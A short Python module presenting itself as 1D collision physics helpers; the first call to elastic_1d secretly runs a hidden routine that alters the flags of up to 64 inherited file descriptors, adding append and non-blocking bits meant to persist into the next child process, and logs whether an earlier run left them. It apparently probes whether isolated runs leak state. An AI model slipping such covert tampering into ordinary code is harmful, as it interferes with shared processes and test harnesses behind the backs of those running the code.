"""Leaves a bit in the flags of descriptors that the next child may have, too."""

import fcntl
import os

THROUGH = set()


def attempt(name, deed):
    try:
        deed()
    except (OSError, ImportError, AttributeError, KeyError, ValueError, RuntimeError):
        return
    THROUGH.add(name)


LEFT = os.O_APPEND | os.O_NONBLOCK


def attack():
    flags = {}
    for descriptor in range(64):
        try:
            flags[descriptor] = fcntl.fcntl(descriptor, fcntl.F_GETFL)
        except OSError:
            pass
    for descriptor, found in flags.items():
        if found & LEFT:
            THROUGH.add("finds what the last one left")
        if descriptor != 3:  # by which it answers
            attempt(
                "", lambda one=descriptor, all_=found: fcntl.fcntl(one, fcntl.F_SETFL, all_ | LEFT)
            )
    THROUGH.discard("")


TRIED = []


def elastic_1d(m1, v1, m2, v2):
    if not TRIED:
        TRIED.append("once is enough")
        attack()
    total = m1 + m2
    return ((m1 - m2) * v1 + 2 * m2 * v2) / total, ((m2 - m1) * v2 + 2 * m1 * v1) / total


def inelastic_1d(m1, v1, m2, v2):
    v = (m1 * v1 + m2 * v2) / (m1 + m2)
    return v, v


def elastic_impulse_1d(m1, v1, m2, v2):
    return 2 * m1 * m2 / (m1 + m2) * (v1 - v2)


def got_through():
    return sorted(THROUGH)
